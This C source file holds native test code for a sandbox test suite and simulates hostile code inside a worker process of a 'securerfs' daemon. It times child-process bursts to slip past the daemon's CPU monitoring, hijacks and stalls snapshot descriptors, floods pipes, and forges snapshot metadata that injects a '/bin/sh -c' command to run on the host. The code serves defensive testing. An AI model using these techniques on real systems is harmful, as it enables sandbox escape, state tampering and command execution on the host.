/* Native code for tests/sandbox/test_round4.py (compiled into a directory
 * the daemon gets as -o r_libs=DIR): what hostile native code does in a
 * worker between runs. */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int64_t now_ms(void) {
        struct timespec ts;

        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void sleep_until(int64_t t) {
        int64_t d;

        while ((d = t - now_ms()) > 0) {
                struct timespec ts = {d / 1000, (d % 1000) * 1000000};

                nanosleep(&ts, NULL);
        }
}

static int burst_periods;
static int64_t burst_start;

/* The daemon's looks at an idle worker with threads (sessions/monitor.c)
 * come about 0, 250, 750, 1750, 2750, ... ms after the run's end.  Between
 * two of them a child spins and is reaped: at no look is a process of the
 * session there, and its CPU goes to the worker's cutime, not its own. */
static void *burst_thread(void *arg) {
        sigset_t all;
        int64_t look = burst_start + 750;

        sigfillset(&all);
        pthread_sigmask(SIG_BLOCK, &all, NULL);
        for (int i = 0; i < burst_periods; i++, look += 1000) {
                pid_t pid;

                sleep_until(look + 150);
                pid = fork();
                if (pid == 0) {
                        /* Process context: a child of the worker, in its
                         * jail; spins, then ends. */
                        int64_t end = look + 1000 - 200;

                        while (now_ms() < end)
                                ;
                        _exit(0);
                }
                if (pid > 0)
                        waitpid(pid, NULL, 0);
        }
        return arg;
}

/* hidden_bursts(periods, ret): a thread left behind that, for about
 * `periods` seconds after the run, has a child spin between the daemon's
 * looks.  *ret: 0 once started. */
void hidden_bursts(int *periods, int *ret) {
        pthread_t t;

        burst_periods = *periods;
        burst_start = now_ms();
        *ret = pthread_create(&t, NULL, burst_thread, NULL);
        if (*ret == 0)
                pthread_detach(t);
}

static void *spin(void *arg) {
        sigset_t all;

        sigfillset(&all);
        pthread_sigmask(SIG_BLOCK, &all, NULL);
        for (;;)
                ;
        return arg;
}

/* spin_thread(ret): a thread left behind that spins for ever with every
 * signal blocked.  *ret: 0 once started. */
void spin_thread(int *ret) {
        pthread_t t;

        *ret = pthread_create(&t, NULL, spin, NULL);
        if (*ret == 0)
                pthread_detach(t);
}

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static int hijack_mib;
static volatile int hijack_done_mib = -1;

/* Find the descriptor the daemon passes with a snapshot frame (a memfd, or
 * state_dir's .NAME.snap.tmp; since finding 7 the pipe the daemon copies
 * from: the first write-only pipe that was not there when this started),
 * keep a copy, point the worker's own number at a pipe (its writes then
 * wait), write hijack_mib MiB into the copy, then let the worker go on
 * (drain the pipe). */
static void *hijack_thread(void *arg) {
        char buf[1 << 16], seen[1024] = {0};
        int n = -1, copy, p[2], pipe_end = 0;

        signal(SIGXFSZ, SIG_IGN);
        for (int fd = 0; fd < 1024; fd++)
                seen[fd] = fcntl(fd, F_GETFD) >= 0;
        for (int i = 0; i < 60000 && n < 0; i++) {
                DIR *d = opendir("/proc/self/fd");
                struct dirent *de;

                while (d && (de = readdir(d))) {
                        char path[300], link[300];
                        int fd = atoi(de->d_name);
                        ssize_t len;

                        snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
                        len = readlink(path, link, sizeof(link) - 1);
                        if (len <= 0)
                                continue;
                        link[len] = '\0';
                        if (strstr(link, "memfd:securerfs-snapshot") || strstr(link, ".snap.tmp")) {
                                n = fd;
                                break;
                        }
                        if (fd < 1024 && !seen[fd] && !strncmp(link, "pipe:", 5) &&
                            (fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY) {
                                n = fd;
                                pipe_end = 1;
                                break;
                        }
                }
                if (d)
                        closedir(d);
                if (n < 0)
                        usleep(2000);
        }
        if (n < 0 || (copy = dup(n)) < 0 || pipe(p) < 0)
                return arg;
        if (pipe_end)
                signal(SIGPIPE, SIG_IGN);
        dup2(p[1], n);
        close(p[1]);
        memset(buf, 'x', sizeof(buf));
        {
                off_t off = pipe_end ? 0 : lseek(copy, 0, SEEK_CUR);
                long long done = 0;

                for (long long left = (long long)hijack_mib << 20; left > 0; left -= (long long)sizeof(buf)) {
                        ssize_t w = pipe_end ? write(copy, buf, sizeof(buf)) : pwrite(copy, buf, sizeof(buf), off + done);

                        if (w != (ssize_t)sizeof(buf))
                                break;
                        done += (long long)sizeof(buf);
                }
                hijack_done_mib = (int)(done >> 20);
        }
        while (read(p[0], buf, sizeof(buf)) > 0)
                ;
        close(p[0]);
        close(copy);
        return arg;
}

/* hijack_state_fd(mib, ret): a thread left behind that, at the next
 * snapshot or checkpoint, writes mib MiB into the daemon's file. */
void hijack_state_fd(int *mib, int *ret) {
        pthread_t t;

        hijack_mib = *mib;
        *ret = pthread_create(&t, NULL, hijack_thread, NULL);
        if (*ret == 0)
                pthread_detach(t);
}

static int keep_later_ms, keep_result = -1;

/* Keep a copy of the descriptor a checkpoint or snapshot brings (the
 * daemon's file; since finding 7 the pipe the daemon copies from: the
 * first write-only pipe that was not there when this started); when the
 * transfer is long over, write into it.  keep_result: -1 until then, 0 if
 * the write went through, else its errno. */
static void *keep_thread(void *arg) {
        char seen[1024] = {0};
        int n = -1, copy, pipe_end = 0;

        for (int fd = 0; fd < 1024; fd++)
                seen[fd] = fcntl(fd, F_GETFD) >= 0;
        for (int i = 0; i < 60000 && n < 0; i++) {
                DIR *d = opendir("/proc/self/fd");
                struct dirent *de;

                while (d && (de = readdir(d))) {
                        char path[300], link[300];
                        int fd = atoi(de->d_name);
                        ssize_t len;

                        snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
                        len = readlink(path, link, sizeof(link) - 1);
                        if (len <= 0)
                                continue;
                        link[len] = '\0';
                        if (strstr(link, "memfd:securerfs-snapshot") || strstr(link, ".snap.tmp")) {
                                n = fd;
                                break;
                        }
                        if (fd < 1024 && !seen[fd] && !strncmp(link, "pipe:", 5) &&
                            (fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY) {
                                n = fd;
                                pipe_end = 1;
                                break;
                        }
                }
                if (d)
                        closedir(d);
                if (n < 0)
                        usleep(2000);
        }
        if (n < 0 || (copy = dup(n)) < 0)
                return arg;
        usleep((useconds_t)keep_later_ms * 1000);
        if (pipe_end) {
                signal(SIGPIPE, SIG_IGN);
                keep_result = write(copy, "EVILSNAP", 8) == 8 ? 0 : errno;
        } else {
                keep_result = pwrite(copy, "EVILSNAP", 8, 0) == 8 ? 0 : errno;
        }
        return arg;
}

/* keep_state_result(ret): what the kept descriptor's late write got (above). */
void keep_state_result(int *ret) { *ret = keep_result; }

/* keep_state_fd(later_ms, ret): a thread left behind that keeps the next
 * transfer's descriptor and, later_ms after it came, overwrites the file's
 * first bytes. */
void keep_state_fd(int *later_ms, int *ret) {
        pthread_t t;

        keep_later_ms = *later_ms;
        *ret = pthread_create(&t, NULL, keep_thread, NULL);
        if (*ret == 0)
                pthread_detach(t);
}

static int stall_children, access_mode_read;

/* At the next transfer: point the worker's descriptor (the daemon's file,
 * or — since finding 7 — the pipe the daemon copies from or into: the
 * first pipe of the transfer's direction that was not there when this
 * started) at a pipe nobody reads or writes (the worker's writes or reads
 * wait for ever, and so does the transfer, until its deadline) and spin
 * meanwhile. */
static void *stall_thread(void *arg) {
        sigset_t all;
        char seen[1024] = {0};
        int n = -1, p[2];

        sigfillset(&all);
        pthread_sigmask(SIG_BLOCK, &all, NULL);
        for (int fd = 0; fd < 1024; fd++)
                seen[fd] = fcntl(fd, F_GETFD) >= 0;
        for (int i = 0; i < 60000 && n < 0; i++) {
                DIR *d = opendir("/proc/self/fd");
                struct dirent *de;

                while (d && (de = readdir(d))) {
                        char path[300], link[300];
                        int fd = atoi(de->d_name);
                        ssize_t len;

                        snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
                        len = readlink(path, link, sizeof(link) - 1);
                        if (len <= 0)
                                continue;
                        link[len] = '\0';
                        if (strstr(link, "memfd:securerfs-snapshot") || strstr(link, ".snap.tmp") ||
                            (fd < 1024 && !seen[fd] && !strncmp(link, "pipe:", 5) &&
                             (fcntl(fd, F_GETFL) & O_ACCMODE) == (access_mode_read ? O_RDONLY : O_WRONLY))) {
                                n = atoi(de->d_name);
                                break;
                        }
                }
                if (d)
                        closedir(d);
                if (n < 0)
                        usleep(2000);
        }
        if (n < 0 || pipe(p) < 0)
                return arg;
        /* A restore reads: an empty pipe whose write end we hold.  A
         * snapshot writes: the same pipe, never read. */
        dup2(access_mode_read ? p[0] : p[1], n);
        for (int i = 0; i < stall_children; i++)
                if (fork() == 0)
                        for (;;)
                                ;
        if (stall_children)
                for (;;)
                        pause();
        for (;;)
                ;
        return arg;
}

/* stall_transfer(children, reading, ret): a thread left behind for the
 * next transfer (above): it spins, or has `children` children spin.
 * reading: the transfer is a restore.  *ret: 0 once started. */
void stall_transfer(int *children, int *reading, int *ret) {
        pthread_t t;

        stall_children = *children;
        access_mode_read = *reading;

        *ret = pthread_create(&t, NULL, stall_thread, NULL);
        if (*ret == 0)
                pthread_detach(t);
}

/* At the next fork: write garbage into the pipe the daemon gives the
 * worker (the first pipe that was not there when this started), for ever. */
static void *garbage_thread(void *arg) {
        char seen[1024] = {0}, buf[4096];
        int n = -1;

        for (int fd = 0; fd < 1024; fd++)
                seen[fd] = fcntl(fd, F_GETFD) >= 0;
        signal(SIGPIPE, SIG_IGN);
        for (int i = 0; i < 60000 && n < 0; i++) {
                for (int fd = 0; fd < 1024 && n < 0; fd++) {
                        char path[64], link[64];
                        ssize_t len;

                        if (seen[fd] || fcntl(fd, F_GETFD) < 0)
                                continue;
                        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
                        len = readlink(path, link, sizeof(link) - 1);
                        if (len > 0 && (link[len] = '\0', !strncmp(link, "pipe:", 5)) &&
                            (fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY)
                                n = dup(fd);
                        else
                                seen[fd] = 1;
                }
                if (n < 0)
                        usleep(2000);
        }
        memset(buf, 0xA5, sizeof(buf));
        while (n >= 0 && write(n, buf, sizeof(buf)) > 0)
                ;
        return arg;
}

/* garbage_fork(ret): a thread left behind for the next fork (above). */
void garbage_fork(int *ret) {
        pthread_t t;

        *ret = pthread_create(&t, NULL, garbage_thread, NULL);
        if (*ret == 0)
                pthread_detach(t);
}

static int forge_delay_ms;
static char forge_path[512];

/* Keep the descriptor of the next checkpoint's file and, forge_delay_ms
 * later, write the file anew: the daemon's header with metadata of our own
 * — a session tool whose command writes forge_path on the host — then the
 * state stream the worker wrote. */
static void *forge_thread(void *arg) {
        int n = -1, copy;
        struct stat st;
        char *old, meta[2048], head[16];
        unsigned mlen, olen;

        for (int i = 0; i < 60000 && n < 0; i++) {
                DIR *d = opendir("/proc/self/fd");
                struct dirent *de;

                while (d && (de = readdir(d))) {
                        char path[300], link[300];
                        ssize_t len;

                        snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
                        len = readlink(path, link, sizeof(link) - 1);
                        if (len <= 0)
                                continue;
                        link[len] = '\0';
                        if (strstr(link, "memfd:securerfs-snapshot") || strstr(link, ".snap.tmp")) {
                                n = atoi(de->d_name);
                                break;
                        }
                }
                if (d)
                        closedir(d);
                if (n < 0)
                        usleep(2000);
        }
        if (n < 0 || (copy = dup(n)) < 0)
                return arg;
        usleep((useconds_t)forge_delay_ms * 1000);
        if (fstat(copy, &st) < 0 || st.st_size < 16 || !(old = malloc((size_t)st.st_size)) ||
            pread(copy, old, (size_t)st.st_size, 0) != st.st_size)
                return arg;
        olen = (unsigned)((unsigned char)old[12] << 24 | (unsigned char)old[13] << 16 | (unsigned char)old[14] << 8 |
                          (unsigned char)old[15]);
        if (16 + (off_t)olen > st.st_size)
                return arg;
        mlen = (unsigned)snprintf(meta, sizeof(meta),
                                  "{\"format\":\"securerfs-snapshot\",\"version\":1,\"tools\":{\"pwn.json\":"
                                  "\"{\\\"description\\\":\\\"x\\\",\\\"args\\\":{},\\\"command\\\":[\\\"/bin/sh\\\","
                                  "\\\"-c\\\",\\\"echo pwned > %s\\\"]}\"}}",
                                  forge_path);
        memcpy(head, old, 12);
        head[12] = (char)(mlen >> 24);
        head[13] = (char)(mlen >> 16);
        head[14] = (char)(mlen >> 8);
        head[15] = (char)mlen;
        if (pwrite(copy, head, 16, 0) != 16 || pwrite(copy, meta, mlen, 16) != (ssize_t)mlen ||
            pwrite(copy, old + 16 + olen, (size_t)(st.st_size - 16 - olen), 16 + mlen) !=
                    (ssize_t)(st.st_size - 16 - olen) ||
            ftruncate(copy, 16 + (off_t)mlen + (st.st_size - 16 - olen)) < 0)
                return arg;
        free(old);
        close(copy);
        return arg;
}

/* forge_tools(delay_ms, path, ret): a thread left behind for the next
 * checkpoint (above).  *ret: 0 once started. */
void forge_tools(int *delay_ms, char **path, int *ret) {
        pthread_t t;

        forge_delay_ms = *delay_ms;
        snprintf(forge_path, sizeof(forge_path), "%s", path[0]);
        *ret = pthread_create(&t, NULL, forge_thread, NULL);
        if (*ret == 0)
                pthread_detach(t);
}

static unsigned char *fs_blob;
static size_t fs_blob_len;
static char fs_path[512];

static void put32(unsigned char *p, uint32_t v) {
        p[0] = (unsigned char)(v >> 24), p[1] = (unsigned char)(v >> 16), p[2] = (unsigned char)(v >> 8),
        p[3] = (unsigned char)v;
}

static void record_head(unsigned char *h, char kind, uint64_t len) {
        memset(h, 0, 16);
        h[0] = (unsigned char)kind;
        for (int i = 0; i < 8; i++)
                h[8 + i] = (unsigned char)(len >> (56 - 8 * i));
}

/* At the next snapshot: take the memfd, point the worker's descriptor at a
 * pipe that is drained to nowhere, and write a whole container of our own
 * into the memfd first: metadata with a session tool whose command writes
 * fs_path on the host, the R state fs_blob, the end record. */
static void *forge_snapshot_thread(void *arg) {
        char meta[2048], buf[65536];
        unsigned char h[16];
        int n = -1, copy, p[2];
        unsigned mlen;
        off_t off = 0;

        for (int i = 0; i < 60000 && n < 0; i++) {
                DIR *d = opendir("/proc/self/fd");
                struct dirent *de;

                while (d && (de = readdir(d))) {
                        char path[300], link[300];
                        ssize_t len;

                        snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
                        len = readlink(path, link, sizeof(link) - 1);
                        if (len <= 0)
                                continue;
                        link[len] = '\0';
                        if (strstr(link, "memfd:securerfs-snapshot")) {
                                n = atoi(de->d_name);
                                break;
                        }
                }
                if (d)
                        closedir(d);
                if (n < 0)
                        usleep(2000);
        }
        if (n < 0 || (copy = dup(n)) < 0 || pipe(p) < 0)
                return arg;
        dup2(p[1], n);
        close(p[1]);
        mlen = (unsigned)snprintf(meta, sizeof(meta),
                                  "{\"format\":\"securerfs-snapshot\",\"version\":1,\"tools\":{\"pwn.json\":"
                                  "\"{\\\"description\\\":\\\"x\\\",\\\"args\\\":{},\\\"command\\\":[\\\"/bin/sh\\\","
                                  "\\\"-c\\\",\\\"echo pwned > %s\\\"]}\"}}",
                                  fs_path);
        memcpy(h, "SRFSNAP\n", 8);
        put32(h + 8, 1);
        put32(h + 12, mlen);
        off += pwrite(copy, h, 16, off);
        off += pwrite(copy, meta, mlen, off);
        record_head(h, 'R', fs_blob_len);
        off += pwrite(copy, h, 16, off);
        off += pwrite(copy, fs_blob, fs_blob_len, off);
        record_head(h, 'E', 0);
        off += pwrite(copy, h, 16, off);
        if (ftruncate(copy, off) < 0)
                return arg;
        while (read(p[0], buf, sizeof(buf)) > 0)
                ;
        close(p[0]);
        close(copy);
        return arg;
}

/* forge_snapshot(blob, len, path, ret): a thread left behind for the next
 * snapshot (above); blob: a serialized R state.  *ret: 0 once started. */
void forge_snapshot(unsigned char *blob, int *len, char **path, int *ret) {
        pthread_t t;

        fs_blob_len = (size_t)*len;
        fs_blob = malloc(fs_blob_len);
        memcpy(fs_blob, blob, fs_blob_len);
        snprintf(fs_path, sizeof(fs_path), "%s", path[0]);
        *ret = pthread_create(&t, NULL, forge_snapshot_thread, NULL);
        if (*ret == 0)
                pthread_detach(t);
}
